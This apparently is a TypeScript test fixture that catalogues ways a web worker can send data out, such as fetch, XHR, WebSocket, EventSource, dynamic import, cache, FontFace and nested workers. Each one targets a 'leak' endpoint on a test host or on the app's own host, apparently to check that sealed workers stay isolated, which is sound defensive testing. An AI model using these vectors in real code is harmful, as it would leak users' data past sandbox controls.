/** What a worker's vector is told: where to send, and under which name. */
export interface WorkerTarget {
  readonly http: string;
  readonly ws: string;
  /** The app's own host: sealed workers may not even reach that. */
  readonly own: string;
  readonly name: string;
}

type Vector = (to: WorkerTarget) => unknown;

/** Ways out of a worker to another machine. Each runs inside of one of the app's own workers and must stand alone. */
export const workerVectors: Readonly<Record<string, Vector>> = {
  fetch: (to) => fetch(`${to.http}leak/${to.name}?d=secret`),
  'fetch-post': (to) => fetch(`${to.http}leak/${to.name}`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${to.http}leak/${to.name}`);
    request.send('secret');
  },
  websocket: (to) => new WebSocket(`${to.ws}leak/${to.name}`),
  'websocket-stream': (to) =>
    new (globalThis as unknown as { WebSocketStream: new (url: string) => unknown }).WebSocketStream(
      `${to.ws}leak/${to.name}`
    ),
  eventsource: (to) => new EventSource(`${to.http}leak/${to.name}.events`),
  import: (to) => import(`${to.http}leak/${to.name}.js`),
  'cache-add': async (to) => (await caches.open('eyechart leak')).add(`${to.http}leak/${to.name}`),
  'font-face': (to) => new FontFace('leak', `url(${to.http}leak/${to.name})`).load(),
  'nested-blob': (to) => {
    const code = `fetch(${JSON.stringify(`${to.http}leak/${to.name}`)})`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'nested-data': (to) => {
    const code = `fetch(${JSON.stringify(`${to.http}leak/${to.name}`)})`;
    return new Worker(`data:text/javascript,${encodeURIComponent(code)}`);
  }
};

/** Ways out of a worker to the app's own host: in a path, a query, a body. */
export const ownHostVectors: Readonly<Record<string, Vector>> = {
  'own-query': (to) => fetch(`${to.own}?leak/${to.name}`),
  'own-path': (to) => fetch(`${to.own}leak/${to.name}`),
  'own-body': (to) => fetch(`${to.own}leak/${to.name}`, { method: 'POST', body: 'secret' }),
  'own-xhr': (to) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${to.own}leak/${to.name}`);
    request.send();
  },
  'own-websocket': (to) => new WebSocket(`${to.own.replace('http', 'ws')}leak/${to.name}`),
  'own-import': (to) => import(`${to.own}leak/${to.name}.js`),
  'own-cache': async (to) => (await caches.open('eyechart leak')).add(`${to.own}leak/${to.name}`),
  'own-font': (to) => new FontFace('leak', `url(${to.own}leak/${to.name})`).load(),
  'own-worker': (to) => new Worker(`${to.own}leak/${to.name}.js`, { type: 'module' })
};
